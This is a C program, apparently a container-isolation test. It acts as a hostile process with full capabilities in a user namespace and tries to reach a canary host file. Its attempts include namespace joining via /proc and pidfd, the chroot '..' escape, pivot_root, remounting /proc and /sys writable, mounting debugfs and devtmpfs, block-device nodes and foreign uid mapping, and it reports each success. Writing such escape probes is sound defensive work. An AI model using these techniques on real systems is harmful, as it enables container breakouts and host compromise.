// What a hostile process with all capabilities in a user namespace of its own tries with namespaces and mounts, static:
// `nested CANARY ID`, the path of a file of the host's, and an id of the host's that is not this container's. What leads to
// the file, or to anything else of the host's, is said by "host: ", what may work by "works: ", a line each.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

// <sys/mount.h> and <linux/mount.h> clash in some versions of glibc.
int mount(const char *, const char *, const char *, unsigned long, const void *);
int umount2(const char *, int);
enum { DETACH = 2, READ_ONLY = 1, REMOUNT = 32, BIND = 4096, RECURSIVE = 16384, PRIVATE = 1 << 18 };

static const char *canary;
static const char *foreignId;

static void works(const char *what, long result) {
  if (result >= 0) printf("works: %s\n", what);
}
static void host(const char *what, long result) {
  if (result >= 0) printf("host: %s\n", what);
}

// From here, from the working directory, and from above either.
static void look(const char *after) {
  char path[4096];
  host(after, open(canary, O_RDONLY | O_CLOEXEC));
  snprintf(path, sizeof path, "../../../../../../../..%s", canary);
  host(after, open(path, O_RDONLY | O_CLOEXEC));
}

static const char *spaces[] = {"user", "mnt", "pid", "pid_for_children", "cgroup", "ipc", "net", "uts", "time"};

// Those of every process there is, by path and by pidfd, and what is above each.
static void joinAll(void) {
  char path[300];
  DIR *processes = opendir("/proc");
  for (struct dirent *entry; processes && (entry = readdir(processes));) {
    int pid = atoi(entry->d_name);
    if (pid <= 0) continue;
    for (unsigned i = 0; i < sizeof spaces / sizeof *spaces; i++) {
      snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, spaces[i]);
      int file = open(path, O_RDONLY | O_CLOEXEC);
      if (file < 0) continue;
      works(i == 1 ? "setns" : "setns of another kind", setns(file, 0));
      look("setns by path");
      // ioctl_ns(2): the namespace above it, and its owner's.
      for (int request = 1; request <= 2; request++) {
        int above = (int)syscall(SYS_ioctl, file, 0xb700 | request, 0);
        if (above >= 0) setns(above, 0), look("setns to what is above");
      }
      close(file);
    }
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    static const int flags[] = {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET};
    for (int i = 0; pidfd >= 0 && i < 4; i++) setns(pidfd, flags[i]), look("setns by pidfd");
  }
}

static void unmountAll(void) {
  char line[4096], where[1024];
  for (int round = 0; round < 20; round++) {
    FILE *mounts = fopen("/proc/self/mountinfo", "re");
    while (mounts && fgets(line, sizeof line, mounts))
      if (sscanf(line, "%*d %*d %*s %*s %1023s", where) == 1 && strcmp(where, "/") && strncmp(where, "/proc", 6)) umount2(where, DETACH);
    if (mounts) fclose(mounts);
  }
  look("unmounting all");
  while (umount2("/proc", DETACH) == 0) continue;
  for (int round = 0; round < 5; round++) umount2("/", DETACH), look("unmounting the root");
}

static void writable(const char *after) {
  static const char *files[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/kcore",
                                "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled",
                                "/mnt/sys/kernel/core_pattern", "/mnt/sysrq-trigger", "/mnt/kcore"};
  for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
    struct stat facts;
    int file = open(files[i], O_WRONLY | O_CLOEXEC);
    if (file >= 0 && (fstat(file, &facts) != 0 || !S_ISCHR(facts.st_mode))) printf("host: %s, %s\n", files[i], after);
    if (file >= 0) close(file);
  }
}

static void remountAll(void) {
  struct mount_attr clear = {.attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NODEV | MOUNT_ATTR_NOSUID};
  static const char *places[] = {"/", "/proc", "/proc/sys", "/proc/sysrq-trigger", "/sys", "/dev", "/dev/null"};
  for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
    mount(0, places[i], 0, REMOUNT | BIND, 0);
    syscall(SYS_mount_setattr, AT_FDCWD, places[i], 0x8000 /* AT_RECURSIVE */, &clear, sizeof clear);
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, places[i], 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC);
    if (tree < 0) continue;
    syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &clear, sizeof clear);
    if (syscall(SYS_move_mount, tree, "", AT_FDCWD, "/mnt", 4 /* F_EMPTY_PATH */) == 0) {
      works("a detached mount", 0);
      writable("by a clone of its mount");
      umount2("/mnt", DETACH);
    }
    close(tree);
  }
  writable("remounted");
  works("proc of its own", mount("proc", "/mnt", "proc", 0, 0));
  writable("by a proc of its own");
  umount2("/mnt", DETACH);
  umount2("/proc/sys", DETACH), umount2("/proc/sysrq-trigger", DETACH), umount2("/proc/kcore", DETACH), umount2("/sys", DETACH);
  writable("unmounted");
}

static void mountAll(void) {
  static const char *types[] = {"devtmpfs", "debugfs", "tracefs", "securityfs", "efivarfs", "pstore", "configfs", "rpc_pipefs", "selinuxfs"};
  for (unsigned i = 0; i < sizeof types / sizeof *types; i++) {
    host(types[i], mount(types[i], "/mnt", types[i], 0, 0));
    int context = (int)syscall(SYS_fsopen, types[i], 1);
    if (context >= 0 && syscall(SYS_fsconfig, context, 6 /* CMD_CREATE */, 0, 0, 0) == 0) host(types[i], syscall(SYS_fsmount, context, 1, 0));
  }
  works("tmpfs", mount("tmpfs", "/mnt", "tmpfs", 0, 0));
  mknod("/mnt/disk", S_IFBLK | 0600, 0xfe00);
  host("a device", open("/mnt/disk", O_RDONLY | O_CLOEXEC));
}

// The way out of a chroot(2), and roots that are changed below somebody's feet.
static void chrootOut(void) {
  int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
  mkdir("/deeper", 0700);
  works("chroot", chroot("/deeper"));
  if (fchdir(root) == 0)
    for (int i = 0; i < 50; i++) chdir("..");
  look("chroot");
  if (chroot(".") == 0) look("chroot of what is above");
  mount("/", "/", 0, BIND | RECURSIVE, 0);
  if (chdir("/") == 0) works("pivot_root", syscall(SYS_pivot_root, ".", "."));
  look("pivot_root");
  for (int i = 0; i < 3; i++) umount2(".", DETACH), fchdir(root), look("what is below the root");
}

static void mapAll(void) {
  char text[64];
  int meet[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, meet) != 0) return;
  pid_t child = fork();
  if (child == 0) {
    works("a user namespace in it", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    write(meet[1], "x", 1);
    fflush(stdout);
    read(meet[1], text, 1);
    _exit(0);
  }
  read(meet[0], text, 1);
  snprintf(text, sizeof text, "/proc/%d/uid_map", child);
  int map = open(text, O_WRONLY | O_CLOEXEC);
  snprintf(text, sizeof text, "0 %s 1\n", foreignId);
  if (map < 0) printf("works: no map\n");
  host("an id that is not its own", map < 0 ? -1 : write(map, text, strlen(text)));
  works("an id of its own", write(map, "0 0 1\n", 6));
  write(meet[0], "x", 1);
  waitpid(child, NULL, 0);
}

static void chain(void) {
  for (int depth = 0; depth < 8; depth++) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) break;
    works("a chain of namespaces", 0);
    mount(0, "/", 0, RECURSIVE | PRIVATE, 0);
    remountAll();
    look("a chain");
  }
  joinAll();
  unmountAll();
}

int main(int count, char **words) {
  if (count != 3) return 2;
  canary = words[1];
  foreignId = words[2];
  look("nothing");
  mkdir("/mnt", 0755);
  void (*tricks[])(void) = {joinAll, mapAll, mountAll, remountAll, chrootOut, unmountAll, chain};
  for (unsigned i = 0; i < sizeof tricks / sizeof *tricks; i++) {
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
      alarm(20);
      unshare(CLONE_NEWNS);
      mount(0, "/", 0, RECURSIVE | PRIVATE, 0);
      tricks[i]();
      fflush(stdout);
      _exit(0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (status) printf("trick %u ended by %d\n", i, status);
  }
  return 0;
}
